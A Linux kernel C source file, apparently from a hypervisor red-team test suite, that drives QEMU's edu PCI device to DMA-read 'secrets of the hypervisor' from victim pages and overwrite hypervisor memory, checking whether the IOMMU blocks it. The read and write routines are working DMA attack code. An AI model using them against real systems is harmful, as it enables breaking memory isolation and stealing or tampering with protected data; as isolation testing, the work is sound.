// SPDX-License-Identifier: MIT OR GPL-2.0
/*
 * DMA: the root owns the devices, so it can tell one to copy hypervisor memory. QEMU's `edu` device
 * does what it is told: -device edu,dma_mask=0xffffffffffffffff
 */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/pci.h>
#include <linux/string.h>

#include "redteam/root/attack.h"

#define EDU_RAISE 0x60
#define EDU_LOWER 0x64
#define EDU_SOURCE 0x80
#define EDU_TARGET 0x88
#define EDU_COUNT 0x90
#define EDU_COMMAND 0x98
#define EDU_START 1
#define EDU_TO_MEMORY 2
#define EDU_BUFFER 0x40000
/* QEMU 7.2 aborts if the end of a transfer is the end of the 4 KiB buffer. */
#define EDU_BYTES 2048

bool edu_open(struct edu *edu)
{
	edu->pci = pci_get_device(0x1234, 0x11e8, NULL);
	if (!edu->pci)
		return false;
	if (pci_enable_device(edu->pci) == 0) {
		pci_set_master(edu->pci);
		edu->registers = pci_iomap(edu->pci, 0, 0);
		if (edu->registers)
			return true;
		pci_disable_device(edu->pci);
	}
	pci_dev_put(edu->pci);
	return false;
}

void edu_close(struct edu *edu)
{
	pci_iounmap(edu->pci, edu->registers);
	pci_disable_device(edu->pci);
	pci_dev_put(edu->pci);
}

void edu_interrupt(const struct edu *edu, bool raise)
{
	writel(1, edu->registers + (raise ? EDU_RAISE : EDU_LOWER));
}

/* Answers false if the device never finishes. */
bool edu_dma(const struct edu *edu, phys_addr_t physical, u32 bytes, bool to_device)
{
	unsigned int i;

	writeq(to_device ? physical : EDU_BUFFER, edu->registers + EDU_SOURCE);
	writeq(to_device ? EDU_BUFFER : physical, edu->registers + EDU_TARGET);
	writeq(bytes, edu->registers + EDU_COUNT);
	writeq(EDU_START | (to_device ? 0 : EDU_TO_MEMORY), edu->registers + EDU_COMMAND);
	for (i = 0; i < 200; i++) { /* it takes 100 ms */
		msleep(10);
		if (!(readq(edu->registers + EDU_COMMAND) & EDU_START))
			return true;
	}
	return false;
}

struct edu_work {
	struct edu edu;
	u8 *out, *in;
};

static struct outcome edu_begin(struct edu_work *work)
{
	work->out = (void *)get_zeroed_page(GFP_KERNEL);
	work->in = (void *)get_zeroed_page(GFP_KERNEL);
	if (!work->out || !work->in) {
		free_page((unsigned long)work->out);
		free_page((unsigned long)work->in);
		return outcome(ERROR, "no memory");
	}
	if (!edu_open(&work->edu)) {
		free_page((unsigned long)work->out);
		free_page((unsigned long)work->in);
		return outcome(SKIPPED, "no edu device: -device edu,dma_mask=0xffffffffffffffff");
	}
	return outcome(BLOCKED, "begun");
}

static void edu_end(struct edu_work *work)
{
	edu_close(&work->edu);
	free_page((unsigned long)work->out);
	free_page((unsigned long)work->in);
}

/*
 * Memory to device to other memory, both the root's own: what a driver does, and must go on doing.
 */
static struct outcome edu_control(const struct attack *attack)
{
	struct edu_work work;
	struct outcome result = edu_begin(&work);

	if (result.verdict != BLOCKED)
		return result;
	memset(work.out, 0xa5, PAGE_SIZE);
	if (!edu_dma(&work.edu, virt_to_phys(work.out), EDU_BYTES, true) ||
	    !edu_dma(&work.edu, virt_to_phys(work.in), EDU_BYTES, false))
		result = outcome(ERROR, "the device does not finish");
	else if (memcmp(work.in, work.out, EDU_BYTES) != 0)
		result = outcome(BLOCKED, "DMA into the root's own memory does not work");
	else
		result = outcome(SUCCEEDED, "DMA into the root's own memory works");
	edu_end(&work);
	return result;
}

static bool all_bytes(const u8 *bytes, u8 value)
{
	return !memchr_inv(bytes, value, EDU_BYTES);
}

/*
 * Answers true if bytes of physical came through the device: not what edu_read() put there before,
 * not zeros, not ones.
 */
static bool edu_steal(struct edu_work *work, phys_addr_t physical)
{
	memset(work->in, 0, PAGE_SIZE);
	edu_dma(&work->edu, physical, EDU_BYTES, true);
	edu_dma(&work->edu, virt_to_phys(work->in), EDU_BYTES, false);
	return !all_bytes(work->in, 0xa5) && !all_bytes(work->in, 0) && !all_bytes(work->in, 0xff);
}

static struct outcome edu_read(const struct attack *attack)
{
	struct edu_work work;
	struct outcome result = edu_begin(&work);
	unsigned int i;

	if (result.verdict != BLOCKED)
		return result;
	memset(work.out, 0xa5, PAGE_SIZE);
	edu_dma(&work.edu, virt_to_phys(work.out), EDU_BYTES, true);
	for (i = 0; i < victim_count(); i++)
		if (edu_steal(&work, victim(i)))
			break;
	if (i < victim_count())
		result = outcome(SUCCEEDED, "bytes of %#llx: %*ph", victim(i), 8, work.in);
	else
		result = outcome(BLOCKED, "nothing came from %u pages", i);
	edu_end(&work);
	return result;
}

/* Write 8 bytes; if reading by DMA works, see them there and put the old ones back. */
static struct outcome edu_write(const struct attack *attack)
{
	phys_addr_t physical = victim(0) + 512;
	u64 denied = denied_count();
	struct edu_work work;
	struct outcome result = edu_begin(&work);
	u64 *words, *old;

	if (result.verdict != BLOCKED)
		return result;
	words = (u64 *)work.out;
	old = (u64 *)work.in;
	memset(work.out, 0xa5, PAGE_SIZE);
	/* Before: through the device to us. */
	edu_dma(&work.edu, virt_to_phys(work.out), 8, true);
	edu_dma(&work.edu, physical, 8, true);
	edu_dma(&work.edu, virt_to_phys(work.in), 8, false);
	/* The attack: other bytes than those. */
	words[0] = ~old[0];
	edu_dma(&work.edu, virt_to_phys(work.out), 8, true);
	edu_dma(&work.edu, physical, 8, false);
	/* After: what is there now, unless what was in the device only stayed there. */
	words[1] = 0x5a5a5a5a5a5a5a5aull;
	edu_dma(&work.edu, virt_to_phys(work.out + 8), 8, true);
	edu_dma(&work.edu, physical, 8, true);
	edu_dma(&work.edu, virt_to_phys(work.in + 8), 8, false);
	if (old[1] == words[0]) {
		edu_dma(&work.edu, virt_to_phys(work.in), 8, true);
		edu_dma(&work.edu, physical, 8, false);
		result = outcome(SUCCEEDED, "%#llx was changed (and put back)", physical);
	} else if (below_hypervisor() && denied_count() == denied) {
		result = outcome(ERROR, "nothing seen, but the IOMMU saw no fault either");
	} else {
		result = outcome(BLOCKED, "the IOMMU refused");
	}
	edu_end(&work);
	return result;
}

const struct attack edu_attacks[] = {
	{ "edu-control", "nothing: this one MUST succeed, or the other two prove nothing",
	  edu_control },
	{ "edu-read", "secrets of the hypervisor, by DMA", edu_read },
	{ "edu-write", "code in the hypervisor, by DMA", edu_write },
	{}
};
